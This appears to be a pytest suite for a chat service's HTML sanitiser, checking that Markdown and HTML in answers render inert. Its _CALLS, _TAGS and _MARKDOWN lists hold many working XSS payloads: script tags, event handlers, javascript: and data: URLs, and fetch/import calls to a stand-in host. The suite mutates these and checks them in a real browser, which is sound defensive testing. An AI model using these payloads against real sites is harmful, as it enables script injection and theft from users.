"""Whatever users, documents and models write is shown as words that can do nothing.

The vectors were written for these tests; their addresses lead to a host that does not exist.
"""

import random
from collections.abc import Iterator
from html.parser import HTMLParser
from itertools import product
from typing import Any

import pytest
from scripted_chat import ScriptedChat

pytest.importorskip("nh3")

from bot.service.page.rendering import safe_html

HOST = "//bad.invalid/x"
_CALLS = (
    "alert(1)", "confirm`1`", f"fetch('{HOST}')", f"import('{HOST}')", f"location='{HOST}'",
)  # fmt: skip
_TAGS = (
    "<script>CALL</script>",
    f"<script src={HOST}></script>",
    "<img src=x onerror=CALL>",
    f"<img src='https:{HOST}.png'>",
    f"<image href='{HOST}'>",
    "<svg onload=CALL>",
    f"<svg><image href='{HOST}'/><script>CALL</script></svg>",
    "<svg><animate onbegin=CALL attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=CALL>",
    "<noscript><p title='</noscript><img src=x onerror=CALL>'>",
    f"<iframe src='{HOST}'></iframe>",
    "<iframe srcdoc='<script>CALL</script>'></iframe>",
    f"<object data='{HOST}'></object>",
    f"<embed src='{HOST}'>",
    f"<link rel=stylesheet href='{HOST}'>",
    f"<style>@import '{HOST}'; body{{background:url({HOST})}}</style>",
    f"<div style='background:url({HOST})'>x</div>",
    f"<meta http-equiv=refresh content='0;url={HOST}'>",
    f"<base href='{HOST}'>",
    f"<form action='{HOST}'><button>go</button></form>",
    f"<video src='{HOST}' onerror=CALL autoplay>",
    f"<audio src='{HOST}' autoplay>",
    f"<input type=image src='{HOST}' onfocus=CALL autofocus>",
    "<details open ontoggle=CALL>",
    "<body onload=CALL>",
    "<a href='javascript:CALL'>x</a>",
    f"<a href='https:{HOST}'>x</a>",
    "<a href='data:text/html,<script>CALL</script>'>x</a>",
    "<p onclick=CALL data-mark=1>x</p>",
    "<button data-mark='1' onclick=CALL>1</button>",
    "<template><script>CALL</script></template>",
    "<textarea><img src=x onerror=CALL></textarea>",
    "<!--><img src=x onerror=CALL>-->",
    "<![CDATA[<img src=x onerror=CALL>]]>",
    "<x-y onpointerenter=CALL style=position:fixed;inset:0>",
)
_MARKDOWN = (
    f"![x](https:{HOST}.png)",
    f"![x][1]\n\n[1]: https:{HOST}.png",
    f"[![x](https:{HOST}.png)](https:{HOST})",
    "[x](javascript:CALL)",
    "[x](JaVaScRiPt:CALL)",
    "[x](java\tscript:CALL)",
    "[x](&#106;avascript:CALL)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:CALL)",
    f'[x](https:{HOST} "\' onmouseover=CALL")',
    f"<https:{HOST}>",
    "<javascript:CALL>",
    f"https:{HOST}?leak=1",
    "[1]: javascript:CALL\n[1]",
    f"[1](https:{HOST})",
    '```"><img src=x onerror=CALL>\nx\n```',
    "``<img src=x onerror=CALL>``",
    "| a |\n|---|\n| <img src=x onerror=CALL> |",
    "1. <img src=x onerror=CALL>\n2. ![x](x)",
    "&lt;img src=x onerror=CALL&gt;",
    "\\<img src=x onerror=CALL>",
    "{{constructor.constructor('CALL')()}}",
    "${CALL}",
)


def seeds() -> list[str]:
    """Return every seed with every call."""
    found = [s.replace("CALL", call) for s, call in product(_TAGS + _MARKDOWN, _CALLS)]
    return list(dict.fromkeys(found))


def _mutations(seed: str, random: random.Random) -> Iterator[str]:
    at = random.randrange(len(seed) + 1)
    yield seed.upper()
    yield seed.swapcase()
    yield seed.replace("<", "<\x00")
    yield seed.replace(" ", "/")
    yield seed.replace(" ", "\n")
    yield seed.replace(">", "")
    yield seed.replace("<", "<<")
    yield seed[:at] + "\u202e" + seed[at:]
    yield seed[:at] + "[1]" + seed[at:]
    yield seed[:at] + "\n\n" + seed[at:]
    yield f"> - {seed}"
    yield f"**{seed}** _{seed}_"
    yield f"</p></div></template></script>{seed}"
    yield f"\"'>`{seed}"
    yield seed.replace("<", "&lt;").replace(">", "&gt;")
    yield seed.replace("<", "\uff1c")
    yield seed.replace("=", " = ")
    yield "".join(random.choice((c, c, c, f"&#{ord(c)};")) for c in seed)
    yield seed[::-1]
    yield seed[: at or 1] + random.choice(seeds())


def vectors() -> list[str]:
    """Return seeds and mutations, more than 3,000, always the same."""
    chance = random.Random(5)
    found = dict.fromkeys(seeds())
    for seed in seeds():
        found.update(dict.fromkeys(_mutations(seed, chance)))
    return list(found)


TAGS = set(
    "p br hr strong em s code pre ul ol li blockquote h1 h2 h3 h4 h5 h6"
    " table thead tbody tr th td".split()
)
BUTTON = {"type": "button", "class": "mark"}


class Looked(HTMLParser):
    """Refuses every tag and attribute that is not expected."""

    def __init__(self, marks: set[int]) -> None:
        super().__init__(convert_charrefs=True)
        self.marks = marks

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = dict(attrs)
        if tag == "button":
            number = int(found.pop("data-mark") or "")
            assert number in self.marks
            assert found.pop("aria-label") == f"Open source {number}"
            assert found == BUTTON
        else:
            assert tag in TAGS, tag
            assert set(found) <= ({"start"} if tag == "ol" else set()), found

    handle_startendtag = handle_starttag

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)


def look(html: str, marks: set[int]) -> None:
    looked = Looked(marks)
    looked.feed(html)
    looked.close()


def test_no_vector_becomes_a_tag_that_is_active_or_fetches() -> None:
    """3,000 vectors leave only tags of the list, without an address or a handler."""
    found = vectors()
    assert len(found) >= 3000
    for vector in found:
        look(safe_html(vector, {1}), {1})


def test_no_vector_becomes_active_in_the_middle_of_a_stream() -> None:
    """What has come so far is harmless at every position at which a stream may stand."""
    for seed in seeds():
        for at in range(len(seed)):
            look(safe_html(seed[:at], {1}), {1})


def test_an_address_stays_the_words_that_it_is() -> None:
    """Links and pictures are shown as they were written."""
    html = safe_html("See [this](https://a.example/x) and ![that](https://a.example/y.png).")
    assert "[this](https://a.example/x)" in html
    assert "![that](https://a.example/y.png)" in html


def test_only_marks_of_citations_become_buttons() -> None:
    """A mark that cites nothing stays words."""
    html = safe_html("Tall [1], and [2], and [1234].", {1})
    assert html.count("<button") == 1
    assert "[2]" in html
    assert "[1234]" in html


def test_markdown_is_shown_as_such() -> None:
    """Emphasis, lists, tables and code are what they are in Markdown."""
    html = safe_html("**a**\n\n- b\n\n3. c\n\n| d |\n|---|\n| e |\n\n```\nf <b>\n```")
    for part in ("<strong>a</strong>", "<li>b</li>", '<ol start="3">', "<td>e</td>", "f &lt;b&gt;"):
        assert part in html


async def test_a_browser_shown_vectors_does_nothing(serve: Any, browser: Any) -> None:
    """An answer made of vectors, streamed, and asked with vectors: no dialog, no picture, no
    request to another host, no script, in a real Chromium."""
    sample = vectors()[::9]
    page = await browser.new_page()
    seen: list[str] = []
    page.on("dialog", lambda dialog: seen.append(dialog.message))
    page.on("pageerror", lambda error: seen.append(str(error)))
    text = "\n\n".join(sample)
    pieces = [text[at : at + 97] for at in range(0, len(text), 97)]
    async with serve(writer=ScriptedChat(says=pieces)) as served:
        page.on("request", lambda r: None if _ours(r.url, served.url) else seen.append(r.url))
        await page.goto(served.url)
        await page.fill("textarea", "\n".join(seeds()[::5])[:2000])
        await page.keyboard.press("Enter")
        await page.wait_for_selector('[aria-label="Why this answer"]', timeout=60_000)
        assert "onerror=alert(1)" in await page.inner_text(".words")
        active = await page.evaluate(
            "[...document.querySelectorAll('.words *, .bubble *')].filter(e =>"
            " ['IMG','SCRIPT','IFRAME','A','SVG','STYLE','LINK','OBJECT','FORM','INPUT']"
            ".includes(e.tagName.toUpperCase()) || [...e.attributes].some(a =>"
            " a.name.startsWith('on') || ['src','href','style'].includes(a.name)))"
            ".map(e => e.outerHTML)"
        )
        await page.reload()  # as it was stored, too
        await page.wait_for_selector('[aria-label="Why this answer"]', timeout=60_000)
        await page.close()
    assert active == []
    assert seen == []


async def test_what_is_rendered_is_inert_even_without_a_policy(browser: Any) -> None:
    """All vectors, rendered, in a page that forbids nothing: nothing happens."""
    page = await browser.new_page()
    seen: list[str] = []
    page.on("dialog", lambda dialog: seen.append(dialog.message))
    page.on("request", lambda request: seen.append(request.url))
    await page.set_content("<div id=a></div>")
    shown = [safe_html(vector, {1}) for vector in vectors()]
    await page.evaluate("h => { document.getElementById('a').innerHTML = h.join('') }", shown)
    await page.wait_for_timeout(500)
    await page.close()
    assert seen == []


def _ours(url: str, origin: str) -> bool:
    return url.startswith((origin, origin.replace("http", "ws"), "data:", "blob:"))
